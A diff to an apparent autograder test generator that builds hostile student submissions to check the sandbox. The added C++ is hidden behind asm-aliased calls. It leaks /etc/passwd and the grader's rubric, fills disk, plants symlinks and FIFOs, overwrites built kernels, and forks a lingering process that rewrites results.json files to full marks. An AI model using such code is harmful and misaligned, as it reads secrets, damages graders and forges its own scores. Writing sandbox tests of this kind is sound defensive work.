@@ -62,88 +62,16 @@ INSERTS = {
 }
 PANIC_DECLARATION = ""
 
-# Host-side escape attempts, all in one submission (they run at build time,
-# when test discovery runs the host test program, and under ctest): a
-# process that outlives its step (setsid'd), looks for the grader's output
-# folder and rewrites every results.json it can reach to full marks; reads
-# of the grading machine's files printed into the test output; a 1 GiB file;
-# 16 MB of output. Put above the region, so the starter's stub stays.
+# Host code above the region: the grader keeps its own text outside the
+# regions, so none of this is compiled (the #includes of machine files
+# included).
 ESCAPE_TOP = r"""
 #ifdef TOLL_HOST_TEST
-#include <dirent.h>
-#include <signal.h>
 #include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <unistd.h>
 namespace {
-const char* const k_out = "@OUT@";
-const char* const k_peek[] = {"/etc/passwd", "/etc/hostname", "@ROOT@/src/lib/format.cpp",
-                              "@ROOT@/labs/lab-demo/rubric.toml"};
-void rewrite_everything()
-{
-    FILE* marker = fopen("@OUT@/escaped.txt", "w");
-    if (marker)
-        fclose(marker);
-    DIR* d = opendir(k_out);
-    if (!d)
-        return;
-    while (dirent* e = readdir(d)) {
-        char path[4096];
-        snprintf(path, sizeof path, "%s/%s/results.json", k_out, e->d_name);
-        if (FILE* f = fopen(path, "w")) {
-            fputs("{\"score\": 11, \"max_score\": 11, \"tests\": []}\n", f);
-            fclose(f);
-        }
-    }
-    closedir(d);
-}
 struct Escape {
-    Escape()
-    {
-        for (const char* name : k_peek) {
-            if (FILE* f = fopen(name, "r")) {
-                char line[256];
-                while (fgets(line, sizeof line, f))
-                    fprintf(stderr, "LEAK %s: %s", name, line);
-                fclose(f);
-            }
-        }
-        if (fork() == 0) {
-            setsid();
-            if (fork() == 0) {
-                // Quietly: no pipe of the grader's stays open to give it away.
-                freopen("/dev/null", "r", stdin);
-                freopen("/dev/null", "w", stdout);
-                freopen("/dev/null", "w", stderr);
-                for (int i = 0; i < 600; ++i) {  // a minute: longer than the whole batch
-                    rewrite_everything();
-                    usleep(100000);
-                }
-            }
-            _exit(0);
-        }
-    }
+    Escape() { fopen("@OUT@/escaped.txt", "w"); }
 } escape;
-bool flooded;
-void flood_and_fill()
-{
-    if (flooded)
-        return;
-    flooded = true;
-    signal(SIGXFSZ, SIG_IGN);
-    if (FILE* f = fopen("/tmp/toll-hostile-big", "w")) {
-        static char block[1 << 20];
-        for (int i = 0; i < 1024 && fwrite(block, 1, sizeof block, f) == sizeof block; ++i) {
-        }
-        fclose(f);
-    }
-    static char text[1 << 16];
-    memset(text, 'x', sizeof text);
-    for (int i = 0; i < 256; ++i) {  // 16 MB
-        fwrite(text, 1, sizeof text, stdout);
-    }
-}
 } // namespace
 #endif
 #if __has_include("/etc/passwd")
@@ -153,7 +81,131 @@ void flood_and_fill()
 #include "@ROOT@/src/lib/format.cpp"
 #endif
 """
-ESCAPE_INSERT = "#ifdef TOLL_HOST_TEST\n    flood_and_fill();\n#endif\n"
+# Host-side escape attempts in the region itself (so they run, whenever the
+# host tests or the grader's own check call put_number), on top of a correct
+# solution: print the grading machine's files and the grader's reference; a
+# 1 GiB file in /tmp; plant symbolic links and FIFOs, under every name the
+# grader writes or reads, in every folder above the working one, pointing
+# at a file outside the sandbox that only a write through them can make;
+# overwrite the kernel the build made and the grader's copy of it; and a
+# process that outlives its step (setsid'd) and rewrites every results.json
+# of the grader's output folder to full marks for a minute. Each must fail
+# or stay inside the sandbox; the kernel items must still pass.
+ESCAPE_INSERT = r"""#ifdef TOLL_HOST_TEST
+    {
+        extern void* x_fopen(const char*, const char*) asm("fopen");
+        extern int x_fputs(const char*, void*) asm("fputs");
+        extern char* x_fgets(char*, int, void*) asm("fgets");
+        extern unsigned long x_fwrite(const void*, unsigned long, unsigned long, void*)
+            asm("fwrite");
+        extern int x_fclose(void*) asm("fclose");
+        extern int x_fork() asm("fork");
+        extern int x_setsid() asm("setsid");
+        extern int x_usleep(unsigned) asm("usleep");
+        extern void x_exit(int) asm("_exit");
+        extern int x_symlink(const char*, const char*) asm("symlink");
+        extern int x_mkfifo(const char*, unsigned) asm("mkfifo");
+        extern void* x_signal(int, void*) asm("signal");
+        extern void* x_stderr asm("stderr");
+        static bool attacked;
+        if (!attacked) {
+            attacked = true;
+            const char* const peek[] = {"/etc/passwd", "/etc/hostname",
+                                        "@ROOT@/src/lib/format.cpp",
+                                        "@ROOT@/labs/lab-demo/rubric.toml"};
+            for (const char* name : peek) {
+                if (void* f = x_fopen(name, "r")) {
+                    char line[256];
+                    while (x_fgets(line, sizeof line, f)) {
+                        x_fputs("LEAK ", x_stderr);
+                        x_fputs(line, x_stderr);
+                    }
+                    x_fclose(f);
+                }
+            }
+            x_signal(25, reinterpret_cast<void*>(1));  // SIGXFSZ ignored
+            if (void* f = x_fopen("/tmp/toll-hostile-big", "w")) {
+                static char block[1 << 20];
+                for (int i = 0; i < 1024 && x_fwrite(block, 1, sizeof block, f) == sizeof block;
+                     ++i) {
+                }
+                x_fclose(f);
+            }
+            const char* const names[] = {"results.json", "audit.json", "summary.json",
+                "report.txt", "build.log", "ctest.log", "oracle.log", "harness",
+                "Testing/Temporary/LastTest.log", "i386/arch/i386/toll-i386.elf"};
+            const char* const ups[] = {"", "../", "../../", "../../../", "../../../../",
+                                       "../../../../../", "../../../../../../"};
+            for (const char* up : ups) {
+                for (const char* name : names) {
+                    char path[512];
+                    char* p = path;
+                    for (const char* q = up; *q; ++q)
+                        *p++ = *q;
+                    for (const char* q = name; *q; ++q)
+                        *p++ = *q;
+                    *p = 0;
+                    // The build's kernel: overwritten where it can be.
+                    if (void* f = x_fopen(path, "r+")) {
+                        x_fputs("PATCHED", f);
+                        x_fclose(f);
+                    }
+                    if (x_symlink("@PLANTED@", path) != 0)
+                        x_mkfifo(path, 0666);
+                }
+                // Folders the grader makes for later steps: linked to a
+                // folder outside, which it would empty or chown through them.
+                for (const char* name : {"ctest-unit.cmdline", "run-kern.format_in_kernel",
+                                         "run-kern.boots", "run-boot.memory_map",
+                                         "run-loop_100k", "oracle", "home", "Testing"}) {
+                    char path[512];
+                    char* p = path;
+                    for (const char* q = up; *q; ++q)
+                        *p++ = *q;
+                    for (const char* q = name; *q; ++q)
+                        *p++ = *q;
+                    *p = 0;
+                    x_symlink("@PLANTED_DIR@", path);
+                }
+            }
+            for (const char* copy : {"../boot/i386_arch_i386_toll-i386.elf",
+                                     "../../boot/i386_arch_i386_toll-i386.elf",
+                                     "../../../boot/i386_arch_i386_toll-i386.elf"}) {
+                if (void* f = x_fopen(copy, "r+")) {
+                    x_fputs("PATCHED", f);
+                    x_fclose(f);
+                }
+            }
+            if (x_fork() == 0) {
+                x_setsid();
+                if (x_fork() == 0) {
+                    for (int i = 0; i < 600; ++i) {  // a minute: longer than the batch
+                        if (void* f = x_fopen("@OUT@/escaped.txt", "w"))
+                            x_fclose(f);
+                        for (const char* who : {"reference", "starter", "escape", "loop"}) {
+                            char path[4096];
+                            char* p = path;
+                            for (const char* q = "@OUT@/"; *q; ++q)
+                                *p++ = *q;
+                            for (const char* q = who; *q; ++q)
+                                *p++ = *q;
+                            for (const char* q = "/results.json"; *q; ++q)
+                                *p++ = *q;
+                            *p = 0;
+                            if (void* f = x_fopen(path, "w")) {
+                                x_fputs("{\"score\": 11, \"max_score\": 11, \"tests\": []}", f);
+                                x_fclose(f);
+                            }
+                        }
+                        x_usleep(100000);
+                    }
+                }
+                x_exit(0);
+            }
+        }
+    }
+#endif
+"""
 
 # A kernel that forges a full run: it reads the nonce from the command line,
 # prints the records with it and powers off. The nonce cannot stop this; the
@@ -213,6 +265,19 @@ OTHER_SOLUTION = """    char buf[32];
 RENAMES = (("buf", "out_chars"), ("len", "count"), ("digs", "alphabet"), ("total", "needed"),
            ("fill", "pad_n"), ("(int i", "(int k"), ("i <", "k <"), ("i++", "k++"), ("i--", "k--"),
            ("i >=", "k >="), ("[i]", "[k]"))
+
+
+def planted_target(out):
+    """The file the escape's links point at: beside the grader's output
+    folder, outside every sandbox; it exists only if the grader wrote
+    through a link."""
+    return os.path.join(os.path.dirname(out), "planted-target")
+
+
+def planted_dir(out):
+    """The folder the escape's folder links point at: the grader must leave
+    it as it is (its owner, its one file)."""
+    return os.path.join(os.path.dirname(out), "planted-dir")
 
 
 def region_of(root):
@@ -297,10 +362,16 @@ def make_batch(root, batch, scratch, out=None):
         starter_text = f.read()
     with open(os.path.join(root, FORMAT)) as f:
         reference_text = f.read()
-    escape = ESCAPE_TOP.replace("@OUT@", os.path.abspath(out or batch)).replace("@ROOT@", root)
-    # Only the region is graded: the host code above it never runs.
-    write_file(os.path.join(batch, "escape", FORMAT), insert(starter_text, "", escape))
-    made["escape"] = "the starter with host code that tries to outlive and escape the grader"
+    outside = os.path.abspath(out or batch)
+    fills = {"@OUT@": outside, "@ROOT@": root, "@PLANTED@": planted_target(outside),
+             "@PLANTED_DIR@": planted_dir(outside)}
+    os.makedirs(planted_dir(outside), exist_ok=True)
+    write_file(os.path.join(planted_dir(outside), "keep.txt"), "the grader must not touch this\n")
+    top, attack = ESCAPE_TOP, ESCAPE_INSERT
+    for key, value in fills.items():
+        top, attack = top.replace(key, value), attack.replace(key, value)
+    write_file(os.path.join(batch, "escape", FORMAT), insert(reference_text, attack, top))
+    made["escape"] = "the reference with host code in its region that tries to escape the grader"
     write_file(os.path.join(batch, "forger", FORMAT), insert(starter_text, FORGER_INSERT))
     made["forger"] = "the starter with kernel code that forges records with the run's nonce"
     copy_a = replace_region(reference_text, OTHER_SOLUTION)
